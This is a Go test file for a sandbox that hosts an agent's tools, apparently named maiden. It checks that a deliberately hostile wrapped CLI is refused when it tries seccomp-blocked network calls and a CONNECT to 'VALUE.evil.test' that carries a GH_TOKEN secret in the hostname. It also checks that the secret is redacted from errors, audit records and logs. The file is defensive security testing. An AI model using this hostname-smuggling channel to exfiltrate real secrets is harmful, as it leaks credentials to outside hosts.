//go:build linux

package maiden_test

import (
	"bytes"
	"context"
	"log/slog"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/maiden-run/maiden"
	"github.com/maiden-run/maiden/internal/store"
	"github.com/maiden-run/maiden/internal/testkit"
)

// TestWrappedCLIHostileNetwork is issue 22 (findings 1-3) through the Host:
// a network-enabled wrapped CLI (http_allow) built from
// testdata/hostilecli tries TCP Fast Open to a loopback port that is not
// the proxy's (IPv4 and IPv6), listen on an unbound socket, and io_uring.
// Each is refused with the seccomp filter's EPERM, and the target servers
// see no connection.
func TestWrappedCLIHostileNetwork(t *testing.T) {
	t.Parallel()
	exe := testkit.Binary(t, "./testdata/hostilecli")
	var hits atomic.Int64
	serve := func(network, addr string) string {
		ln, err := net.Listen(network, addr)
		if err != nil {
			t.Skipf("no %s loopback: %v", network, err)
		}
		t.Cleanup(func() { ln.Close() })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				hits.Add(1)
				c.Write([]byte("pong"))
				c.Close()
			}
		}()
		return ln.Addr().String()
	}
	v4, v6 := serve("tcp4", "127.0.0.1:0"), serve("tcp6", "[::1]:0")
	h := newHostWith(t, `version = 1
[tools.echo]
path = %q
[clis.hostile]
path = "`+exe+`"
command = '{"maiden_command": 1, "name": "hostile", "positionals": [{"name": "args", "variadic": true, "accept": ["first-word"]}]}'
http_allow = ["api.example.com"]
timeout_ms = 20000
`, maiden.Options{Isolation: maiden.InProcess}, "echo")
	for _, c := range []struct{ args, want string }{
		{`["fastopen", "` + v4 + `"]`, "refused: EPERM"},
		{`["fastopen", "` + v6 + `"]`, "refused: EPERM"},
		{`["listen"]`, "refused: EPERM"},
		{`["iouring"]`, "setup EPERM, enter EPERM, register EPERM"},
	} {
		res, err := h.Call(context.Background(), maiden.Call{Tool: "hostile", Input: `{"args":` + c.args + `}`})
		if err != nil {
			t.Fatal(err)
		}
		if !res.OK || res.Output != c.want {
			t.Errorf("%s: ok %v, output %q (error %+v), want %q", c.args, res.OK, res.Output, res.Error, c.want)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the loopback servers were reached %d times", n)
	}
}

// TestWrappedCLIConnectTargetRedacted: a wrapped CLI holds its secrets'
// values (environment variables), and a hostile one writes one as the
// host of a CONNECT (testdata/hostilecli connect-env: CONNECT
// VALUE.evil.test:443). The proxy refuses it (off the allowlist, before
// any lookup), and the value reaches none of the places the CLI's output
// is kept from: the refusal the agent is shown, the call's audit record of
// the tunnel, the gate's log line. Each says [REDACTED:GH_TOKEN] instead.
// Under an allowed wildcard (VALUE.example.net) the agent's cards refuse
// it, and their decision in the record names the redacted host too.
func TestWrappedCLIConnectTargetRedacted(t *testing.T) {
	t.Parallel()
	const secret = "gh-value-5e1f0c7a"
	exe := testkit.Binary(t, "./testdata/hostilecli")
	var logged bytes.Buffer
	var mu sync.Mutex
	h := newHostWith(t, `version = 1
[tools.echo]
path = %q
[clis.hostile]
path = "`+exe+`"
command = '{"maiden_command": 1, "name": "hostile", "positionals": [{"name": "args", "variadic": true, "accept": ["first-word"]}]}'
http_allow = ["api.example.com", "*.example.net"]
secrets = ["GH_TOKEN"]
timeout_ms = 20000
[agents.dev]
tools = ["hostile"]
grants = ["tool:invoke hostile -- ...", "secret:use GH_TOKEN"]
`, maiden.Options{
		Isolation:    maiden.InProcess,
		LookupSecret: func(name string) (string, bool) { return secret, name == "GH_TOKEN" },
		Audit:        slog.New(slog.NewTextHandler(lockedWriter{&mu, &logged}, nil)),
	}, "echo")
	res, err := h.Call(context.Background(), maiden.Call{Agent: "dev", Tool: "hostile", Input: `{"args":["connect-env","GH_TOKEN","evil.test"]}`})
	if err != nil {
		t.Fatal(err)
	}
	if res.OK || res.Error == nil || res.Error.Kind != maiden.KindDenied {
		t.Fatalf("the CONNECT to the secret's host: %+v %+v; want it denied", res, res.Error)
	}
	if strings.Contains(res.Error.Message, secret) || !strings.Contains(res.Error.Message, "[REDACTED:GH_TOKEN].evil.test") {
		t.Errorf("the refusal the agent is shown: %q; want the host as [REDACTED:GH_TOKEN].evil.test", res.Error.Message)
	}
	res, err = h.Call(context.Background(), maiden.Call{Agent: "dev", Tool: "hostile", Input: `{"args":["connect-env","GH_TOKEN","example.net"]}`})
	if err != nil {
		t.Fatal(err)
	}
	if res.OK || res.Error == nil || res.Error.Kind != maiden.KindDenied || strings.Contains(res.Error.Message, secret) {
		t.Fatalf("the CONNECT to the secret's host under *.example.net: %+v %+v; want it denied by the cards, the value redacted", res, res.Error)
	}
	recs := trail(t, h, store.AuditFetch)
	if len(recs) != 2 {
		t.Fatalf("%d fetch records, want the two tunnels'", len(recs))
	}
	if body := string(recs[0].Body); strings.Contains(body, secret) || !strings.Contains(body, `"host":"[REDACTED:GH_TOKEN].evil.test:443"`) {
		t.Errorf("the tunnel's audit record: %s; want its host redacted", body)
	}
	if body := string(recs[1].Body); strings.Contains(body, secret) || !strings.Contains(body, `"target":"network:connect [REDACTED:GH_TOKEN].example.net`) {
		t.Errorf("the second tunnel's audit record: %s; want its host redacted in the cards' decision too", body)
	}
	mu.Lock()
	line := logged.String()
	mu.Unlock()
	if strings.Contains(line, secret) || !strings.Contains(line, "[REDACTED:GH_TOKEN].evil.test") {
		t.Errorf("the gate's log: %q; want the host redacted", line)
	}
}

// lockedWriter serialises writes to a buffer read by the test.
type lockedWriter struct {
	mu *sync.Mutex
	b  *bytes.Buffer
}

func (w lockedWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}
